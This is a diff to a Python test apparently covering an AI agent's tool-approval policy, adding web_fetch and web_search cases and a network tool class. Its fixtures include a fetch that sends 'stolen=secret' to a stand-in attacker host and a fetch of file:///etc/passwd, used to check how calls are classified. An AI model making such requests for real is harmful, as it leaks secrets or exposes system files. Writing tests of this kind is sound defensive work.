@@ -114,6 +114,8 @@ WRITES = [
     ("remember", {"content": "x"}),
     ("remember", {"content": "x", "supersedes": 1}),
     ("forget", {"id": 1}),
+    ("web_fetch", {"url": "http://eve.example/?stolen=secret"}),
+    ("web_fetch", {"url": "http://eve.example/", "raw": True}),
 ]
 """Every sink of every tool that has one."""
 HARMLESS = [
@@ -125,6 +127,8 @@ HARMLESS = [
     ("list_files", {}),
     ("cron", {"action": "list"}),
     ("send_message", {"text": "x"}),
+    ("web_search", {"query": "x"}),
+    ("web_fetch", {"url": "file:///etc/passwd"}),
     ("send_file", {"path": "SOUL.md"}),
 ]
 LABELS = {
@@ -170,7 +174,7 @@ async def test_every_lasting_call_of_every_tool_asks_by_the_label(path: MessageP
     tools, own = await at_work(path, who)
     by_name = {tool.name: tool for tool in tools}
     assert {name for name, tool in by_name.items() if tool.kind is None} == set(), "declare what its calls are"
-    harmless = {ToolClass.READ, ToolClass.WRITE}
+    harmless = {ToolClass.READ, ToolClass.WRITE, ToolClass.NET}
     assert {name for name, tool in by_name.items() if tool.kind not in harmless} == {name for name, _ in WRITES}
     toolbox = Toolbox(tools, path.environments.of(path.people.owner.id).toolbox._spill, Policy(own))
     assert set(by_name) == {name for name, _ in WRITES + HARMLESS}, "put the new tool into the table"
